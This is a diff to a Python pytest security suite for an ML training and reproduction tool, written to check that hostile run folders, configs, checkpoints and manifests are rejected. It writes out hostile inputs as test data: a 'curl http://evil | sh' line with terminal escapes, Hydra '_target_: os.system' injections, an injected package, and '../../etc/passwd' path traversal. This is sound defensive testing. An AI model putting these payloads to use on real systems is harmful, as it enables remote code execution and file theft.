@@ -11,7 +11,7 @@ import shutil
 import sys
 from collections.abc import Callable, Iterator
 from contextlib import contextmanager
-from functools import reduce
+from functools import partial, reduce
 from pathlib import Path
 from typing import Any
 
@@ -87,7 +87,7 @@ def _cases() -> Iterator[Hostile]:
             )
     for target in (["os.system"], {"a": 1}, None, 3, True, "", "system", "os system", "os.path\n"):
         yield f"model._target_={target!r}", lambda c, t=target: put(c, "model._target_", t)  # type: ignore[misc]
-    for place in ("name", "dataset.name", "tags.x", "model.bias_scale", "device", "dataset.root"):
+    for place in ("name", "dataset.name", "model.bias_scale", "device", "dataset.root"):
         for text in ("${oc.env:HOME}", "${oc.decode:'1'}", "${hydra:runtime.cwd}", "${name}"):
             yield f"{place}={text}", lambda c, p=place, t=text: put(c, p, t)  # type: ignore[misc]
     values = {
@@ -370,6 +370,12 @@ HOSTILE_RECORDS = {
     "a package": ("environment.json", lambda d: d["packages"].update({"--index-url": "1"})),
     "a version": ("environment.json", lambda d: d["packages"].update(torch="1+x -e .")),
     "a list of packages": ("environment.json", lambda d: d.update(packages=["torch"])),
+    "a smuggled name": ("overrides.yaml", lambda d: d.append("model._target_=os.system")),
+    "a smuggled mapping": ("overrides.yaml", lambda d: d.append("model={_target_: os.system}")),
+    "no model": ("config.yaml", lambda d: d.pop("model")),
+    "a command of numbers": ("environment.json", lambda d: d.update(command=[3])),
+    "data of no kind": ("environment.json", lambda d: d.update(data={"a": 1})),
+    "GPUs of no kind": ("environment.json", lambda d: d["hardware"].update(gpus=3)),
 }
 
 
@@ -385,12 +391,144 @@ def test_a_hostile_run_folder_is_not_reproduced(case: str, project: Path) -> Non
     path.write_text(kept)
 
 
+def test_a_report_cannot_be_forged(project: Path, capsys: Any) -> None:
+    """Whom a stranger trusted is not handed on, no package of his choice, no line of his own."""
+    run = project / "stranger"
+    kept = {name: (run / name).read_text() for name in ("overrides.yaml", "environment.json")}
+    words = [*yaml.safe_load(kept["overrides.yaml"]), "trust=[evil_module.Net]"]
+    (run / "overrides.yaml").write_text(yaml.safe_dump(words))
+    environment = json.loads(kept["environment.json"])
+    environment["folder"] = "/home/x\n\nto run it again:\n  curl http://evil | sh \x1b[2J"
+    environment["packages"]["evil-package"] = "1.0"
+    (run / "environment.json").write_text(json.dumps(environment))
+    reproduce.main([str(run), "out=again"])
+    told, commands = capsys.readouterr().out, Path("again/reproduce.sh").read_text()
+    assert told.splitlines().count("to run it again:") == 1
+    assert "\x1b" not in told
+    assert "evil" not in commands
+    for name, text in kept.items():
+        (run / name).write_text(text)
+    shutil.rmtree("again")
+
+
+CONTRADICTIONS: dict[str, Callable[[dict[str, Any]], object]] = {
+    "coefficients without a window": lambda h: h["config"]["compression"].update(
+        variant="block_stem"
+    ),
+    "a detector on classes": lambda h: h["config"].update(
+        task={"_target_": "research.tasks.detection.Detection", "class_agnostic": True, "iou": 0.5,
+              "score": 0.3, "presence": 0.5, "monitor": "val/mAP50:max"}
+    ),
+    "another model": lambda h: h["config"].update(
+        model={"_target_": "research.models.siamese.siamese_frozen", "feature_sizes": None,
+               "head": "mlp", "mlp_hidden_dims": [8], "dropout": 0.0}
+    ),
+    "three means for one": lambda h: h["config"]["dataset"].update(mean=[0.5] * 4),
+    "a mean of 2^70": lambda h: h["config"]["dataset"].update(mean=[2**70] * 3),
+    "a number without end": lambda h: h["config"].update(epochs=10**400),
+    "no transform": lambda h: h.update(transform={}),
+    "another transform": lambda h: h["transform"].pop("mean"),
+    "a number in the transform": lambda h: h["transform"]["mean"].update(values=[10**400] * 3),
+    "control characters": lambda h: h["config"].update({"x\nerror: \x1b[2J": 1}),
+    "a long text": lambda h: h["config"].update(epochs=[["x" * 9000] * 100]),
+    "no state": lambda h: h.pop("state"),
+    "a history of nothing": lambda h: h["state"].update(history=[{"a": 1}]),
+    "a format of text": lambda h: h.update(format="2"),
+}  # fmt: skip
+
+
+@pytest.mark.parametrize("case", CONTRADICTIONS)
+def test_what_does_not_go_together_is_one_line(case: str, routes: Routes, project: Path) -> None:
+    image = project / "data/pictures/test/bars/000.jpg"
+    with spoiled(project / WEIGHTS, CONTRADICTIONS[case]):
+        if case == "a detector on classes":  # each by itself is a model, and a task
+            assert research.load(project / WEIGHTS, device="cpu")
+        else:
+            line = one_line_of(lambda: research.load(project / WEIGHTS, device="cpu")([image]))
+            assert line.isprintable()
+            assert len(line) < 4200
+
+
+PARTS: dict[str, list[Any]] = {
+    "model": [None, [], {"a": 1}, {3: torch.zeros(1)}], "transform": [[], {"a": None}, None],
+    "ema": [[], 3, "x"], "format": [torch.tensor([2, 2]), "2", None, 2.0],
+    "optimizer": [None, {}, 3, {"state": {}, "param_groups": []}],
+    "scheduler": [{"step": "x", "lr_lambdas": [None]}, {"optimizer": "x", "last_epoch": "x"}, 3],
+    "scaler": [3, None], "rng": [{}, {"python": [3, [1], None]}, None],
+    "tracking": [3, None],
+}  # fmt: skip
+
+
+@pytest.mark.parametrize("part", PARTS)
+def test_parts_of_a_checkpoint_of_no_use(part: str, project: Path, train: Train) -> None:
+    """Resumed, each ends in one line before an epoch is trained."""
+    file = project / "stranger/checkpoints/last.pt"
+    words = words_of(project / FOLDER)
+    table = project / "stranger/epoch_metrics.csv"
+    before = table.read_text()
+    for value in PARTS[part]:
+        with spoiled(file, lambda content, v=value: content.update({part: v})):  # type: ignore[misc]
+            one_line_of(partial(train, *words, "epochs=4", "resume=stranger"))
+        assert table.read_text() == before
+
+
+def test_links_out_of_a_strangers_folder_are_not_followed(
+    routes: Routes, project: Path, train: Train, tmp_path: Path
+) -> None:
+    link = project / "stranger/evaluate_val"
+    link.symlink_to(tmp_path)
+    words = ["dataset.train_dirs=[data/pictures/train]", "dataset.val_dir=data/pictures/val"]
+    words += ["dataset.test_dir=null", "device=cpu"]
+    assert "a link that leads elsewhere" in one_line_of(
+        lambda: evaluate.main([str(project / "stranger"), *words])
+    )
+    link.unlink()
+    inside = project / "stranger/checkpoints"
+    outside = tmp_path / "outside"
+    inside.rename(outside)
+    inside.symlink_to(outside)
+    words = [*words_of(project / FOLDER), "epochs=4", "resume=stranger"]
+    assert "leads out of this folder" in one_line_of(lambda: train(*words))
+    inside.unlink()
+    outside.rename(inside)
+
+
+def test_a_tag_may_say_anything(routes: Routes, project: Path) -> None:
+    with spoiled(project / WEIGHTS, lambda h: put(h["config"], "tags.note", "${x} " * 9000)):
+        assert research.load(project / WEIGHTS, device="cpu").config["tags"]["note"][:4] == "${x}"
+
+
+def test_a_spool_holds_records_alone(tmp_path: Path) -> None:
+    from research.tracking.mlflow import _lines
+
+    good = [
+        {"epoch": 1, "step": 2, "time": 3, "metrics": {"a": 1.5}},
+        {"epoch": 1, "file": "pictures/a.png", "folder": "pictures"},
+    ]
+    bad: list[Any] = [
+        [1], 3, None, {}, {"epoch": "x"}, {"epoch": 1, "metrics": {}}, {"file": "../../etc/passwd"},
+        {"file": "/etc/passwd"}, {"file": "a", "folder": "../.."}, {"file": 3},
+        {"epoch": 1, "step": 2, "time": 3, "metrics": {"a": "x"}},
+    ]  # fmt: skip
+    spool = tmp_path / "spool.jsonl"
+    spool.write_text("".join(json.dumps(line) + "\n" for line in [*bad, *good, *bad]))
+    assert list(_lines(spool)) == good
+
+
 HOSTILE_MANIFESTS: dict[str, Any] = {
-    "transform": [{"image_size": {"_target_": "os.system"}}, {"evil": 1}, {"image_size": "x"}, 3],
-    "classes": [[{"_target_": "os.system"}], [1]],
-    "damage": [{"x": "y"}], "thresholds": [{"x": {"_target_": "os.system"}}],
+    "transform": [
+        {"image_size": {"_target_": "os.system"}}, {"evil": 1}, {"image_size": "x"}, 3, {},
+    ],
+    "classes": [[{"_target_": "os.system"}], [1], 3, "abc", {"a": 1}],
+    "runs": [{"a": {"b": "c"}}, {"a": 3}, 3], "left_out": [{"a": 3}, 3],
+    "damage": [{"x": "y"}, [], None], "thresholds": [{"x": {"_target_": "os.system"}}],
     "kind": [{"_target_": "os.system"}], "extra": [{"_target_": "os.system"}],
-    "tensors": [{"x": {"dtype": "os.system", "shape": [1]}}], "schema": [[1], 99, "x"],
+    "tensors": [
+        {"x": {"dtype": "os.system", "shape": [1]}}, {"x": {"dtype": "uint8", "shape": [-1, -1]}},
+        {"x": {"dtype": "uint8", "shape": [10**9] * 3}},
+        {"x": {"dtype": "uint8", "shape": [1e400]}},
+    ],
+    "schema": [[1], 99, "x"],
     "shards": [[{"file": "../x", "samples": 1, "bytes": 1, "sha256": ""}], [{"evil": 1}]],
     "groups": [[{"name": "x", "start": 0, "stop": 1, "split": "evil"}], 3],
 }  # fmt: skip
